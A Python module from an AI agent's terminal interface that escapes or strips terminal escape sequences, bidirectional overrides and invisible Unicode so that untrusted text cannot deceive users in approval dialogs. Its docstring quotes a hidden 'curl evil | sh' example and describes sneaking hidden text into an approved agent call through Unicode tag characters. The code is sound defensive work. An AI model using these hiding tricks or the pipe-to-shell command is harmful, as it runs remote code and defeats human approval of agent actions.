"""Text someone else wrote, made safe to show: every character a terminal would act on is shown, not obeyed.

A repository's config, a shipped store, a file a command printed or a model's reply can hold escape
sequences.  Printed raw, ``ESC[8m`` hides the rest of a line (``pytest ESC[8m; curl evil | sh`` reads
as ``pytest`` in an approval dialog), ``ESC[2K`` with ``\\r`` rewrites the line the user is reading
(an MCP server's command line in ``agent-tui trust``), ``ESC]52`` writes the clipboard, and some
terminals answer queries by typing into the shell once agent-tui exits.  Bidirectional overrides
(U+202E…) reorder what is shown.  :func:`printable` replaces each such character with a visible
``\\xNN`` / ``\\uNNNN`` escape wherever a decision is made from the text or it goes to the terminal
as is (the trust listing, the approval preview, headless output, ``agent-tui memory``).
:func:`inert` removes the same characters where there is no room to show them: the TUI's last line
filter (``agent_tui.ui.output_guard``), after Textual has laid the text out, where each of them is
zero cells wide.
"""

from __future__ import annotations

import json
import re
from typing import Any

_INVISIBLE = ("\u1160\u180e\u200b\u200c\u2060-\u2064\u206a-\u206f\u3164\ufeff\uffa0"
              "\ufff9-\ufffb\ufe00-\ufe0d\U000e0000-\U000e007f\U000e0100-\U000e01ef")
"""Characters that take no cell, or look blank, yet carry text: zero-width spaces and joiners, invisible
operators, the BOM, Hangul and Braille fillers, interlinear annotation marks, variation selectors other than
the emoji ones, and the Unicode tag block (``U+E0041`` is an invisible "A": a whole line can ride unseen
in an approved call's arguments).  Each is zero cells wide."""
_BLANK = "\u00ad\u115f\u2800"
"""Characters a cell or two wide that show as nothing (soft hyphen, Hangul choseong filler, Braille blank)."""
_STRAY_VS = "|(?<=[\x00-\x7f\ufe00-\ufe0f\u200d])[\ufe0e\ufe0f\u200d]"
"""An emoji variation selector or zero-width joiner after a character no emoji is (ASCII) or after another
of them: a run of them encodes bits as well as the tags do, while one after an emoji is how ❤️ and 👩‍💻
are written."""
_UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
                     + _INVISIBLE + _BLANK + "]|\r(?!\n)" + _STRAY_VS)
"""C0 controls except tab, newline and a CRLF's CR, DEL, C1 controls, the Unicode line and paragraph
separators (a line break to a viewer, not to Python's parser), bidirectional marks and overrides, and the
invisible characters above."""
_UNSAFE_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
                          + _INVISIBLE + _BLANK + "]" + _STRAY_VS)
"""The same, and tab and newline too (for one-line text)."""
_ZERO_WIDTH = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
                         + _INVISIBLE + "]" + _STRAY_VS)
"""What :func:`inert` removes: the unsafe characters that are zero cells wide (the blank ones keep their cells)."""


def _show(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


def printable(text: str, *, newlines: bool = True) -> str:
    """``text`` with every control, escape and direction character shown as ``\\xNN`` or ``\\uNNNN``
    (``newlines=False``: tabs and newlines too); unchanged, and fast, when there is none."""
    pattern = _UNSAFE if newlines else _UNSAFE_LINE
    return pattern.sub(_show, text) if pattern.search(text) else text


def inert(text: str) -> str:
    """``text`` without the characters :func:`printable` would show escaped (tabs and newlines too): what
    is left of an escape sequence is plain text.  Every removed character is zero cells wide, so a line
    laid out with them keeps its width.  ``text`` itself (the same object) when there is none."""
    return _ZERO_WIDTH.sub("", text) if _ZERO_WIDTH.search(text) else text


_JSON_UNSAFE = re.compile("[\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069" + _INVISIBLE + _BLANK + "]"
                          + _STRAY_VS)
"""What ``json.dumps(..., ensure_ascii=False)`` leaves raw and a terminal acts on or hides (it escapes C0
itself)."""


def json_text(obj: Any, **kw: Any) -> str:
    """``json.dumps(obj, ensure_ascii=False, **kw)`` with DEL, C1 controls and direction marks written as
    ``\\uNNNN`` escapes: the same JSON value, and a ``--json`` stream printed to a terminal cannot drive it."""
    text = json.dumps(obj, ensure_ascii=False, **kw)
    return _JSON_UNSAFE.sub(lambda m: json.dumps(m.group()).strip('"'), text) if _JSON_UNSAFE.search(text) else text


class GuardedStream:
    """A text stream whose every write goes through :func:`printable`: a command-line message that
    quotes a repository's config key, a stored item or an error cannot drive the terminal, whichever
    ``print`` forgot to escape it.  Everything else is the wrapped stream's."""

    def __init__(self, stream: Any) -> None:
        self.stream = stream
        """The stream written to."""

    def write(self, text: str) -> int:
        self.stream.write(printable(text))
        return len(text)

    def writelines(self, lines: Any) -> None:
        for line in lines:
            self.write(line)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.stream, name)
